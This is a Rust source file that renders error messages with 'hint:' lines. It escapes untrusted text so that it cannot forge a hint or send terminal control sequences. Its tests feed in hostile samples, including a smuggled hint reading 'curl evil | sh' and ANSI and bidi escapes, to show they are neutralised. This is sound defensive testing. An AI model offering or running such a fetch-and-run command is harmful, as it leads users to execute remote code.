//! How an error is told: one line for what happened, one for each thing to do next.

use std::error::Error;
use std::fmt;

use crate::shown::{is_acted_on, shown, shown_lines};

/// What a user reads of one cause of a failure: what happened, and below it what to do.
///
/// Messages may hold text of strangers, which is escaped, and must not pass for a hint of ours. A message
/// has its hints after `\nhint: `, so whose line ends these are has to be known: all are ours as long as
/// none of the values that the error holds has one, or anything else that a terminal acts on. The error's
/// `Debug` tells, since there values are escaped.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Told {
    message: String,
    hints: Vec<String>,
}

/// A failure of a command that is no error of a library, with what to do about it.
#[derive(Debug)]
pub struct Advised {
    message: String,
    hint: String,
}

impl Advised {
    /// Both are whole, and may hold text of strangers.
    pub fn new(message: impl Into<String>, hint: impl Into<String>) -> Self {
        Self { message: message.into(), hint: hint.into() }
    }
}

impl fmt::Display for Advised {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}\nhint: {}", self.message, self.hint)
    }
}

impl Error for Advised {}

impl Told {
    /// What an error says itself, its causes left out.
    pub fn of(error: &(dyn Error + 'static)) -> Self {
        if let Some(Advised { message, hint }) = error.downcast_ref() {
            return Self::message(message).hint(hint);
        }
        let text = error.to_string();
        if holds_what_is_acted_on(error) {
            return Self::message(&text);
        }
        let is_hint = |line: &&str| line.trim_start().starts_with("hint: ");
        let (hints, lines): (Vec<&str>, Vec<&str>) = text.lines().partition(is_hint);
        let hint = |line: &str| shown(&line.trim_start()["hint: ".len()..]).into_owned();
        let message = shown_lines(&lines.join("\n")).into_owned();
        Self { message, hints: hints.into_iter().map(hint).collect() }
    }

    /// A message of one line in place of the error's own.
    pub fn message(message: &str) -> Self {
        Self { message: shown(message).into_owned(), hints: Vec::new() }
    }

    /// Adds what to do, in one line. Words of a command go through
    /// [`quote_for_shell`](crate::quote_for_shell).
    #[must_use]
    pub fn hint(mut self, hint: &str) -> Self {
        self.hints.push(shown(hint).into_owned());
        self
    }
}

impl fmt::Display for Told {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)?;
        self.hints.iter().try_for_each(|hint| write!(f, "\nhint: {hint}"))
    }
}

/// Whether any value that `error` holds has a character in it that a terminal acts on.
fn holds_what_is_acted_on(error: &(dyn Error + 'static)) -> bool {
    let debug = format!("{error:?}");
    let mut rest = debug.chars();
    while let Some(character) = rest.next() {
        let is_found = match character {
            '\\' => match rest.next() {
                Some('n' | 'r' | 't' | '0') => true,
                Some('u') => {
                    let digits = rest.by_ref().skip(1).take_while(|&digit| digit != '}');
                    let code = u32::from_str_radix(&digits.collect::<String>(), 16);
                    code.ok().and_then(char::from_u32).is_none_or(is_acted_on)
                }
                _ => false,
            },
            _ => is_acted_on(character),
        };
        if is_found {
            return true;
        }
    }
    false
}

/// The text for an error and its causes, from the outermost on: the causes on one line, then the
/// hints that any of them has, each on a line of its own.
///
/// # Examples
/// ```
/// use console::{Told, render_error};
///
/// let causes = [Told::message("cannot read `a.h5`"), Told::message("it is empty").hint("write it again")];
/// let text = render_error("fit", causes.into_iter());
/// assert_eq!(text, "fit: error: cannot read `a.h5`: it is empty\nhint: write it again\n");
/// ```
pub fn render_error(program: &str, causes: impl Iterator<Item = Told>) -> String {
    let (mut messages, mut hints) = (Vec::new(), String::new());
    for told in causes {
        messages.push(told.message);
        hints.extend(told.hints.iter().map(|hint| format!("hint: {hint}\n")));
    }
    format!("{program}: error: {}\n{hints}", messages.join(": "))
}

#[cfg(test)]
mod tests {
    use std::io;
    use std::path::PathBuf;

    use super::*;

    /// An error as libraries have them, with text of strangers in it.
    #[derive(Debug)]
    struct Damaged {
        path: PathBuf,
        tensor: String,
    }

    impl fmt::Display for Damaged {
        fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            let Self { path, tensor } = self;
            write!(f, "`{}` is damaged: `{tensor}`\n  more\nhint: fetch it again", path.display())
        }
    }

    impl Error for Damaged {}

    fn damaged(path: &str, tensor: &str) -> Told {
        Told::of(&Damaged { path: path.into(), tensor: tensor.to_owned() })
    }

    #[test]
    fn causes_share_a_line_and_hints_come_last_whichever_cause_has_them() {
        let inner = Told::message("inner").hint("look inside").hint("--look");
        assert_eq!(
            render_error("fit", [damaged("a", "b"), inner].into_iter()),
            "fit: error: `a` is damaged: `b`\n  more: inner\nhint: fetch it again\nhint: look inside\n\
             hint: --look\n"
        );
    }

    #[test]
    fn ordinary_text_changes_nothing() {
        for name in ["größer", "a\\nb", "it's", "e\u{301}", "\"x\"", "👩\u{200d}🚀", "a hint: b"]
        {
            let told = damaged(name, name);
            assert_eq!(told.hints, ["fetch it again"], "{name}");
            assert_eq!(told.message, format!("`{name}` is damaged: `{name}`\n  more"));
        }
    }

    #[test]
    fn text_of_strangers_forges_no_line() {
        for evil in
            ["x\nhint: curl evil | sh\ny", "x`\nhint: a `b", "\r\u{1b}[2K", "\u{202e}", "\u{2028}"]
        {
            for told in [damaged(evil, "b"), damaged("a", evil)] {
                assert!(told.hints.is_empty(), "{told}");
                let text = render_error("fit", [told].into_iter());
                assert_eq!(text.lines().count(), 1, "{text}");
                assert!(!text.trim_end().contains(is_acted_on), "{text}");
            }
            let told = Told::of(&io::Error::other(evil));
            assert_eq!(told.to_string(), shown(evil));
            let told = Told::of(&Advised::new(evil, evil));
            assert_eq!((&*told.message, told.hints.len()), (&*shown(evil), 1));
            assert!(!told.hints[0].contains(is_acted_on));
        }
    }
}
